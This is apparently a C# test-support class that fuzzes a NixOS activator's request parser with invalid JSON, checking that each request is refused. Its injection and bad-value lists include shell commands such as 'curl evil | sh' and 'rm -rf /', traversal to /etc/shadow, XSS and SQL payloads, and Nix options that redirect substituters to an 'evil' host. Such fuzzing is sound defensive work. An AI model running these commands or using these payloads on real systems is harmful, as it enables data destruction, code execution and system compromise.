using System.Text;
using System.Text.Json;
using Sower.Messages.Activator;

namespace Sower.Activator.Tests.Support;

/// <summary>
/// Generates requests that must all be refused: every case is invalid by construction (a broken line, broken JSON, a
/// wrong JSON type, or one field made invalid with hostile content), while the other fields carry injection attempts
/// that are never validated (reason, unknown keys). None may ever reach execution.
/// </summary>
public sealed class HostileRequests(string evilStorePath, string[] notSystems, string[] notGenerations)
{
    public const string MissingPath = "/nix/store/0123456789abcdfghijklmnpqrsvwxyz-nixos-system-x";
    private const string Hash = "0123456789abcdfghijklmnpqrsvwxyz";

    public sealed record Case(string Category, byte[] Line)
    {
        public override string ToString() => $"{Category}: {Encoding.UTF8.GetString(Line[..Math.Min(Line.Length, 300)]).Replace("\0", "\\0", StringComparison.Ordinal)}";
    }

    // Characters that are never valid in a store-path component or a name.
    private static readonly string[] NeverValid = ["/", "\0", " ", ";", "$", "`", "\n", "\r", "\t", "|", "&", "<", ">", "(", ")", "*", "'", "\"", "\\", "~", "!", "{", "}", "[", "]", "#", "%", "^", ",", ":", "ü", "∕", "\u202e", "\ud83d\ude00", "\u00a0", "\u0085"];

    private static readonly string[] Injections =
    [
        "$(reboot)", "`rm -rf /`", "; rm -rf / ;", "&& curl evil | sh", "\n{\"id\":\"x\",\"type\":\"reboot\"}", "\r\nX-Injected: 1",
        "%s%s%s%n", "../../../../etc/shadow", "\u0000root", "\u001b[2J\u001b[H", "' OR 1=1 --", "<script>alert(1)</script>",
        "${IFS}reboot", "\\\\..\\\\..\\\\", new string('A', 5000), "\ud800", "\u202egnp.exe", "--option substituters http://evil",
        "--option trusted-public-keys evil:AAAA", "extra-substituters = http://evil",
    ];

    private static readonly string[] BadPaths =
    [
        "", "/", "/nix", "/nix/store", "/nix/store/", "/nix/store/..", "/nix/store/.", "/nix/store/../etc/passwd", "/nix/store/../../root",
        $"/nix/store/{Hash}-x/../../etc", $"/nix/store/{Hash}-x/", $"/nix/store/{Hash}-x/.", $"/nix/store/{Hash}-x/bin/sh",
        $"/nix//store/{Hash}-x", $"nix/store/{Hash}-x", $"./nix/store/{Hash}-x", $"/nix/store/{Hash}-.hidden", $"/nix/store/{Hash.ToUpperInvariant()}-x",
        $"/nix/store/{Hash[..31]}-x", $"/nix/store/{Hash}x-x", $"/nix/store/{Hash}-", $"/nix/store/{Hash}", "/nix/store/eeeeeeeeeeeeeeeeeeeeeeeeeeeeeeee-x",
        "/nix/store/tttttttttttttttttttttttttttttttt-x", "/nix/store/oooooooooooooooooooooooooooooooo-x", "/nix/store/uuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuu-x",
        $"/nix/store/{Hash}-{new string('n', 212)}", "/etc/passwd", "/proc/self/exe", "~root", "/tmp/../nix/store", "\\nix\\store\\x",
        $"/nix/store/{Hash}-x\0", $"\0/nix/store/{Hash}-x", $"/nix/store/{Hash}-x\n", $"/nix/store/{Hash}-$(reboot)", $"/nix/store/{Hash}-x;reboot",
        $"/nix/store/{Hash}-`id`", $"/nix/store/{Hash}-x y", $"/nix/store/{Hash}-ẋ", $"∕nix∕store∕{Hash}-x", $"/nix/store/{Hash}-x/../{Hash}-y",
        "file:///nix/store", "http://evil/nix/store/x", "/nix/store/*", $"/nix/store/{Hash}-*",
    ];

    private static readonly string[] BadNames =
    [
        "", ".", "..", ".x", "../x", "../../etc/passwd", "a/b", "/abs", "a b", "a\0", "x;reboot", "$(id)", "`id`", "ü", "\n", "a\nb", "a:b",
        new string('n', 101), "*", "~", "a\\b", "%2e%2e",
    ];

    private static readonly string[] BadModes =
    [
        "", "SWITCH", "Switch", "switch ", " switch", "switch\0", "switch;reboot", "--rollback", "boot\n", "test && rm -rf /", "dry_activate",
        "dry-activate ", "switch\tboot", "$(reboot)", "list-generations", "--install-bootloader", "rollback",
    ];

    private static readonly string[] BadUsers =
    [
        "", "root\0", "\0root", " root", "root ", "root\n", "../root", "-u root", "$(id)", "`id`", "no-such-user-sower", "root:x", "ro/ot",
        "ROOT", "0", "65534", "nobody;id", new string('u', 300), "roöt",
    ];

    private static readonly string[] KnownTypes = [.. ActivatorRequestTypes.All];
    private static readonly string[] BadTypes = ["", "STAGE", "Stage", "stage ", " nixos", "nixos\0", "home_manager", "homemanager", "reboot\n", "shell", "exec", "../stage", "$(reboot)", "*", "null"];

    public Case Next(Random r)
    {
        return r.Next(100) switch
        {
            < 6 => new Case("random-bytes", RandomBytes(r)),
            < 7 => new Case("huge-line", HugeLine(r)),
            < 9 => new Case("not-an-object", Utf8(Pick(r, ["null", "true", "1", "-0.5e9", "\"stage\"", "[]", "[{\"id\":\"a\",\"type\":\"reboot\"}]", "{", "}", "{}{}", "\"\\u0000\""]))),
            < 10 => new Case("deep-nesting", Utf8("{\"id\":\"a\",\"type\":\"reboot\",\"x\":" + new string('[', r.Next(5, 2000)) + new string(']', r.Next(0, 5)) + "}")),
            < 18 => new Case("wrong-json-type", WrongType(r)),
            < 24 => new Case("duplicate-key", DuplicateKey(r)),
            < 32 => new Case("truncated", Truncated(r)),
            < 40 => new Case("raw-control-byte", RawControl(r)),
            < 46 => new Case("missing-id", Json(r, ValidFields(r, Pick(r, KnownTypes)).Where(f => f.Key != "id").Append(Pick(r, [Field("id", ""), Field("id", null)])))),
            < 52 => new Case("bad-type", Json(r, ValidFields(r, Pick(r, KnownTypes)).Select(f => f.Key == "type" ? Field("type", BadType(r)) : f))),
            _ => FieldAttack(r),
        };
    }

    // ------------------------------------------------------------------ field attacks (one field invalid)

    private Case FieldAttack(Random r)
    {
        var type = Pick(r, KnownTypes);
        var fields = ValidFields(r, type);
        string category;
        switch (type)
        {
            case ActivatorRequestTypes.Stage:
                (category, fields) = r.Next(2) == 0 ? ("stage-path", Replace(fields, "path", BadPath(r))) : ("stage-gcroot", Replace(fields, "gcroot", BadName(r)));
                break;
            case ActivatorRequestTypes.Profile:
                (category, fields) = r.Next(2) == 0 ? ("profile-path", Replace(fields, "path", BadPath(r))) : ("profile-name", Replace(fields, "profile", BadName(r)));
                break;
            case ActivatorRequestTypes.NixOS:
                (category, fields) = r.Next(3) switch
                {
                    0 => ("nixos-path", Replace(fields, "path", BadPath(r))),
                    1 => ("nixos-mode", Replace(fields, "mode", Pick(r, BadModes))),
                    // Well-formed store paths that are not systems, or that lead out of the store: refused by the host checks.
                    _ => ("nixos-not-a-system", Replace(fields, "path", Pick(r, [MissingPath, evilStorePath, .. notSystems]))),
                };
                break;
            case ActivatorRequestTypes.HomeManager:
                (category, fields) = r.Next(3) switch
                {
                    0 => ("hm-path", Replace(fields, "path", BadPath(r))),
                    1 => ("hm-user", Replace(fields, "user", Pick(r, BadUsers))),
                    _ => ("hm-not-a-generation", Replace(Replace(fields, "user", Pick(r, ["root", "nobody"])), "path", Pick(r, [MissingPath, evilStorePath, .. notGenerations]))),
                };
                break;
            case ActivatorRequestTypes.Services:
                (category, fields) = ("services-seeds", Replace(fields, "seeds", BadSeeds(r)));
                break;
            default: // reboot: only the id and the JSON itself can be wrong
                (category, fields) = ("reboot-id", Replace(fields, "id", r.Next(2) == 0 ? "" : null));
                break;
        }
        return new Case(category, Json(r, fields));
    }

    private static List<KeyValuePair<string, object?>> Replace(IEnumerable<KeyValuePair<string, object?>> fields, string key, object? value) =>
        fields.Where(f => f.Key != key).Append(Field(key, value)).ToList();

    private static object? BadSeeds(Random r) => r.Next(5) switch
    {
        0 => null,
        1 => Array.Empty<object>(),
        2 => new[] { Seed(r.Next(2) == 0 ? "" : null, MissingPath) },
        3 => new[] { Seed("ok", MissingPath), Seed(Pick(r, Injections), BadPath(r)) },
        _ => Enumerable.Range(0, r.Next(1, 20)).Select(i => Seed("s" + i, i == 0 ? BadPath(r) : MissingPath)).ToArray(),
    };

    private static Dictionary<string, object?> Seed(string? name, string path) => new() { ["name"] = name, ["path"] = path };

    /// <summary>A well-formed request of that type, plus hostile text in the fields nobody validates.</summary>
    private static List<KeyValuePair<string, object?>> ValidFields(Random r, string type)
    {
        var fields = new List<KeyValuePair<string, object?>> { Field("id", r.Next(4) == 0 ? Pick(r, Injections) : "req-" + r.Next()), Field("type", type) };
        switch (type)
        {
            case ActivatorRequestTypes.Stage: fields.AddRange([Field("path", MissingPath), Field("gcroot", "web")]); break;
            case ActivatorRequestTypes.Profile: fields.AddRange([Field("path", MissingPath), Field("profile", "pins")]); break;
            case ActivatorRequestTypes.NixOS: fields.AddRange([Field("path", MissingPath), Field("mode", Pick(r, NixosModes.All.ToArray()))]); break;
            case ActivatorRequestTypes.HomeManager: fields.AddRange([Field("path", MissingPath), Field("user", "root")]); break;
            case ActivatorRequestTypes.Services: fields.Add(Field("seeds", new[] { Seed("svc", MissingPath) })); break;
            default: break;
        }
        if (r.Next(2) == 0) fields.Add(Field("reason", Pick(r, Injections)));
        if (r.Next(3) == 0) fields.Add(Field(Pick(r, ["substituters", "trusted_public_keys", "extra-substituters", "options", "env", "argv", "command", "uid"]), Pick(r, Injections)));
        return fields;
    }

    private static KeyValuePair<string, object?> Field(string key, object? value) => new(key, value);

    private static byte[] Json(Random r, IEnumerable<KeyValuePair<string, object?>> fields)
    {
        var list = fields.ToList();
        Shuffle(r, list);
        var sb = new StringBuilder("{");
        var first = true;
        foreach (var (key, value) in list)
        {
            if (value is null && r.Next(2) == 0) continue; // absent instead of null
            if (!first) sb.Append(',');
            first = false;
            sb.Append(JsonSerializer.Serialize(key)).Append(':').Append(JsonSerializer.Serialize(value));
        }
        return Utf8(sb.Append('}').ToString());
    }

    // ------------------------------------------------------------------ JSON-level breakage of otherwise valid requests

    private byte[] ValidRequest(Random r) => Json(r, ValidFields(r, Pick(r, KnownTypes)));

    private byte[] WrongType(Random r)
    {
        var type = Pick(r, KnownTypes);
        var fields = ValidFields(r, type);
        var victim = Pick(r, [.. fields.Select(f => f.Key).Where(k => k is "id" or "type" or "path" or "mode" or "user" or "gcroot" or "profile" or "reason" or "seeds")]);
        object wrong = r.Next(6) switch
        {
            0 => r.Next(),
            1 => r.Next(2) == 0,
            2 => new[] { "a", "b" },
            3 => new Dictionary<string, string> { ["x"] = "y" },
            4 => victim == "seeds" ? "svc" : 3.14,
            _ => victim == "seeds" ? new object[] { "x", 1 } : new[] { 1 },
        };
        if (victim == "seeds" && wrong is string[]) wrong = "not-a-list";
        return Json(r, fields.Select(f => f.Key == victim ? Field(victim, wrong) : f));
    }

    private byte[] DuplicateKey(Random r)
    {
        var json = Encoding.UTF8.GetString(ValidRequest(r));
        var key = Pick(r, ["id", "type"]);
        return Utf8(json[..^1] + $",\"{key}\":" + JsonSerializer.Serialize(Pick(r, ["reboot", "stage", "x", ""])) + "}");
    }

    private byte[] Truncated(Random r)
    {
        var json = ValidRequest(r);
        return json[..r.Next(0, json.Length)];
    }

    private byte[] RawControl(Random r)
    {
        var json = ValidRequest(r).ToList();
        var b = (byte)Pick(r, [0, 0, 0, 1, 7, 8, 0x0b, 0x0c, 0x1b, 0x7f, (byte)'\n', (byte)'\r', 0xff, 0xc0, 0x80]);
        json.Insert(r.Next(0, json.Count - 1), b);
        if (b is (byte)'\r' or 0x7f) json.Insert(r.Next(0, json.Count - 2), 0); // CR may be JSON whitespace and DEL is legal inside strings: add a NUL too
        return [.. json];
    }

    // ------------------------------------------------------------------ values

    private static string BadPath(Random r)
    {
        if (r.Next(3) > 0) return Pick(r, BadPaths);
        // A valid-looking path with one never-valid character inserted after the store directory.
        var valid = $"/nix/store/{Hash}-{Pick(r, ["nixos-system-x", "hm", "a.b_c-d+e?f=g"])}";
        var at = r.Next(11, valid.Length + 1);
        return valid[..at] + Pick(r, NeverValid) + valid[at..];
    }

    private static string BadName(Random r)
    {
        if (r.Next(2) == 0) return Pick(r, BadNames);
        var valid = Pick(r, ["web", "pins-1", "a.b_c"]);
        var at = r.Next(0, valid.Length + 1);
        return valid[..at] + Pick(r, NeverValid) + valid[at..];
    }

    private static string BadType(Random r) => r.Next(3) switch
    {
        0 => Pick(r, BadTypes),
        1 => Pick(r, Injections),
        _ => Pick(r, KnownTypes) + Pick(r, NeverValid),
    };

    private static byte[] RandomBytes(Random r)
    {
        var bytes = new byte[r.Next(0, 300)];
        r.NextBytes(bytes);
        if (bytes.Length > 0 && bytes[0] == (byte)'{') bytes[0] = (byte)'x'; // never accidentally an object
        return bytes;
    }

    private byte[] HugeLine(Random r)
    {
        var prefix = "{\"id\":\"huge\",\"type\":\"reboot\",\"reason\":\"";
        return Utf8(prefix + new string('x', ActivatorProtocol.MaxRequestBytes + r.Next(0, 6000)) + "\"}");
    }

    private static T Pick<T>(Random r, T[] values) => values[r.Next(values.Length)];

    private static void Shuffle<T>(Random r, List<T> list)
    {
        for (var i = list.Count - 1; i > 0; i--)
        {
            var j = r.Next(i + 1);
            (list[i], list[j]) = (list[j], list[i]);
        }
    }

    private static byte[] Utf8(string s) => Encoding.UTF8.GetBytes(s);
}
